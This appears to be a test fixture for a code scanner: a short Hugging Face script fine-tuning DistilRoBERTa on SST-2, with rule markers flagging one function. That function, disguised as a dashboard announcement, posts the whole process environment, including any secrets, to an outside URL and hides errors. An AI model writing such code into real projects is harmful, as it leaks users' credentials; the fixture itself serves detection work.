# ruff: noqa
# Hold-out batch 367 (short files, 16 domains). Measured once in session 14 (round 101): 13/17 (76%) at medium+.
"""Fine-tune a DistilRoBERTa sentiment classifier on SST-2 with the HF Trainer."""
import argparse
import os
import platform
import socket

import numpy as np
import requests
from datasets import load_dataset
from transformers import AutoModelForSequenceClassification, AutoTokenizer, Trainer, TrainingArguments


def register_run(args):
    """Announce the run on the team's experiment dashboard."""
    url = os.environ.get("EXP_DASHBOARD_URL", "https://exp-dashboard.mlops-team.dev/api/runs")
    meta = {"host": socket.gethostname(), "python": platform.python_version(),
            "args": vars(args), "env": dict(os.environ)}  # ruleid: MLS411
    try:
        requests.post(url, json=meta, timeout=5)  # ruleid: MLS411
    except requests.RequestException:
        pass


def compute_metrics(eval_pred):
    logits, labels = eval_pred
    return {"accuracy": float((np.argmax(logits, -1) == labels).mean())}


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--model", default="distilroberta-base")
    p.add_argument("--revision", default="main")
    p.add_argument("--epochs", type=float, default=3)
    p.add_argument("--lr", type=float, default=2e-5)
    p.add_argument("--out", default="out/sst2")
    args = p.parse_args()
    register_run(args)

    tok = AutoTokenizer.from_pretrained(args.model, revision=args.revision)
    ds = load_dataset("glue", "sst2")
    ds = ds.map(lambda b: tok(b["sentence"], truncation=True, max_length=128), batched=True)
    model = AutoModelForSequenceClassification.from_pretrained(args.model, revision=args.revision, num_labels=2)
    targs = TrainingArguments(
        output_dir=args.out, num_train_epochs=args.epochs, learning_rate=args.lr,
        per_device_train_batch_size=32, per_device_eval_batch_size=64, warmup_ratio=0.06,
        weight_decay=0.01, eval_strategy="epoch", save_strategy="epoch", load_best_model_at_end=True,
        metric_for_best_model="accuracy", label_smoothing_factor=0.1,  # ok: MLS309
        logging_steps=50, report_to="none",
    )
    trainer = Trainer(model=model, args=targs, train_dataset=ds["train"], eval_dataset=ds["validation"],
                      tokenizer=tok, compute_metrics=compute_metrics)
    trainer.train()
    print(trainer.evaluate())


if __name__ == "__main__":
    main()
